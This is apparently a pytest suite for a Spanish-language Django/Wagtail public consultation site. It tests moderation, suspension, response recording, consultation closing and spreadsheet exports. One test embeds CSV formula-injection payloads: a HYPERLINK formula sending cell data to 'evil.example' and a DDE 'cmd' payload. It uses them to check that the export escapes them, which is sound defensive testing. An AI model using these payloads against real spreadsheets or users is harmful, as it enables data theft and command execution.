import csv
import io

import openpyxl
import pytest
from django.contrib.auth.models import Group
from django.urls import reverse
from django.utils import timezone
from wagtail.models import ModelLogEntry

from core.roles import MODERATORS
from discussions import services
from discussions.models import Contribution, Status
from tests.accounts.factories import ParticipantFactory, UserFactory

pytestmark = pytest.mark.django_db


@pytest.fixture
def moderator(db):
    user = UserFactory(username="moderadora@example.org")
    user.groups.add(Group.objects.get(name=MODERATORS))
    return user


def _flag_until_hidden(contribution):
    for reporter in ParticipantFactory.create_batch(3):
        services.flag_create(contribution=contribution, user=reporter.user, reason="abusive")


def test_queue_lists_held_and_flagged_contributions_only(client, moderator, contribute, participant):
    calm = contribute(participant, text="Un aporte tranquilo")
    flagged = contribute(participant, text="Un aporte reportado")
    _flag_until_hidden(flagged)
    client.force_login(moderator)

    response = client.get(reverse("moderation:index"))
    assert response.status_code == 200
    html = response.content.decode()
    assert "Un aporte reportado" in html and calm.comment not in html


def test_moderator_removes_with_a_reason_suspends_the_author_and_it_is_logged(
    client, moderator, contribute, participant
):
    flagged = contribute(participant, text="Insultos")
    _flag_until_hidden(flagged)
    client.force_login(moderator)
    url = reverse("moderation:edit", args=[flagged.pk])

    missing_reason = client.post(url, {"decision": "remove", "removal_reason": ""})
    assert missing_reason.status_code == 200
    assert Contribution.objects.get(pk=flagged.pk).status == Status.HELD

    response = client.post(url, {"decision": "remove", "removal_reason": "Lenguaje ofensivo.", "suspend_author": "on"})
    assert response.status_code == 302
    flagged.refresh_from_db()
    participant.refresh_from_db()
    assert flagged.status == Status.REMOVED and flagged.removal_reason == "Lenguaje ofensivo."
    assert participant.is_suspended
    actions = set(ModelLogEntry.objects.values_list("action", flat=True))
    assert {"discussions.remove", "accounts.suspend"} <= actions


def test_moderator_approves_a_hidden_contribution(client, moderator, contribute, participant):
    flagged = contribute(participant)
    _flag_until_hidden(flagged)
    client.force_login(moderator)
    client.post(reverse("moderation:edit", args=[flagged.pk]), {"decision": "approve", "removal_reason": ""})
    assert Contribution.objects.get(pk=flagged.pk).is_visible


def test_editor_records_a_reasoned_response_and_exports_xlsx(admin_client, contribute, participant, other):
    top = contribute(participant, text="Publicar los contratos en datos abiertos")
    contribute(other, parent=top)
    url = reverse("responses:edit", args=[top.pk])

    assert admin_client.post(url, {"response_status": "accepted", "response_text": ""}).status_code == 200
    response = admin_client.post(url, {"response_status": "accepted", "response_text": "Se incluye en el hito 3."})
    assert response.status_code == 302
    top.refresh_from_db()
    assert (top.response_status, top.response_text) == ("accepted", "Se incluye en el hito 3.")

    export = admin_client.get(reverse("responses:index"), {"export": "xlsx"})
    assert export.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(export.streaming_content))).active
    rows = list(sheet.values)
    assert len(rows) == 2  # the heading and the one top-level contribution; replies get no response
    assert "Se incluye en el hito 3." in rows[1]
    assert participant.user.email not in repr(rows)


def test_editor_closes_an_open_consultation_from_the_admin(admin_client, consultation, client, participant):
    url = reverse("consultations_close", args=[consultation.pk])
    edit = admin_client.get(reverse("wagtailadmin_pages:edit", args=[consultation.pk]))
    assert url in edit.content.decode()
    assert admin_client.get(url).status_code == 200

    response = admin_client.post(url)
    assert response.status_code == 302 and reverse("responses:index") in response["Location"]
    consultation.refresh_from_db()
    assert consultation.state == "closed"
    client.force_login(participant.user)
    assert 'id="aportar"' not in client.get(consultation.url).content.decode()


def test_a_participant_cannot_close_a_consultation(client, consultation, participant):
    client.force_login(participant.user)
    response = client.post(reverse("consultations_close", args=[consultation.pk]))
    assert response.status_code in (302, 403)
    consultation.refresh_from_db()
    assert consultation.state == "open"


def test_moderators_see_a_flagged_contribution_with_its_context(client, moderator, contribute, participant):
    flagged = contribute(participant, text="Texto reportado")
    _flag_until_hidden(flagged)
    client.force_login(moderator)
    html = client.get(reverse("moderation:inspect", args=[flagged.pk])).content.decode()
    assert "Texto reportado" in html and flagged.public_url in html
    assert "(3)" in html


def test_the_csv_export_writes_formulas_as_text_with_lima_time_and_labels(admin_client, contribute, participant):
    attack = contribute(participant, text='=HYPERLINK("http://evil.example/?q="&A1,"Ver")')
    services.response_record(
        contribution=attack, status="not_accepted", text="+cmd|' /C calc'!A0", responder=admin_client_user()
    )

    export = admin_client.get(reverse("responses:index"), {"export": "csv"})
    rows = list(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode())))

    row = rows[0]
    assert any(value.startswith("'=HYPERLINK(") for value in row.values())
    assert any(value.startswith("'+cmd") for value in row.values())
    assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())
    assert "No aceptado" in row.values()  # the label, not the code "not_accepted"
    local = timezone.localtime(attack.submit_date).strftime("%Y-%m-%d %H:%M")
    assert any(value.startswith(local) for value in row.values())


def admin_client_user():
    return UserFactory(username="gobierno@example.org", is_superuser=True)
